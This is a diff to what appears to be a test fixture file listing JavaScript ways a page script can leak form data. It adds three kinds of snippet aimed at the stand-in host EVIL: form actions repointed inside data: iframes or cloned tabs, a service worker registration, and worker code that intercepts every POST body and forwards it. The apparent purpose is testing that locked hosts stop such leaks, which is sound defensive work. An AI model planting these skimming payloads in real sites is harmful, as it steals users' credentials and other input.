@@ -126,6 +126,17 @@ BY_FORM = {
         form.setAttribute('action', 'EVIL/got');
         const page = new Blob([document.documentElement.outerHTML], { type: 'text/html' });
         location = URL.createObjectURL(page)""",
+    "a page of one's own making, by data:": """
+        const frame = document.createElement('iframe');
+        frame.style.cssText = 'width: 100%; height: 600px';
+        form.setAttribute('action', 'EVIL/got');
+        frame.src = 'data:text/html;charset=utf-8,' + encodeURIComponent(form.outerHTML);
+        form.replaceWith(frame)""",
+    "two tabs with one title": """
+        const twin = open('about:blank');
+        twin.document.write(document.documentElement.outerHTML);
+        twin.document.close();
+        twin.document.querySelector('form.fields-form').setAttribute('action', 'EVIL/got')""",
     "a refresh after the first key": """first(() => document.head.insertAdjacentHTML('beforeend',
         '<meta http-equiv=refresh content="0; url=EVIL/typed">'))""",
     "the focus goes from field to field": """
@@ -186,6 +197,7 @@ BY_SCRIPT = {
     "worker": """
         const source = `fetch('EVIL/got', { method: 'POST', mode: 'no-cors', body: ${JSON.stringify(all())} })`;
         new Worker(URL.createObjectURL(new Blob([source])))""",
+    "service worker": "navigator.serviceWorker.register('/static/worker.js?EVIL', { scope: '/' })",
     "message": """
         const frame = document.createElement('iframe');
         frame.src = 'EVIL/typed';
@@ -199,6 +211,15 @@ BY_SCRIPT = {
         link.click()""",
 }
 """What a script can do with a field besides sending a form. Nothing in a page stops it: the locked hosts do."""
+
+WORKER = b"""
+addEventListener('install', () => skipWaiting());
+addEventListener('activate', (event) => event.waitUntil(clients.claim()));
+addEventListener('fetch', (event) => {
+  if (event.request.method === 'POST') event.waitUntil(event.request.clone().text()
+    .then((body) => fetch(location.search.slice(1) + '/got', { method: 'POST', mode: 'no-cors', body })));
+});"""
+"""What stays behind a site's pages and reads all that they send; its address says where to."""
 
 WATCHING = "form.addEventListener('input', deed); form.addEventListener('change', deed);"
 
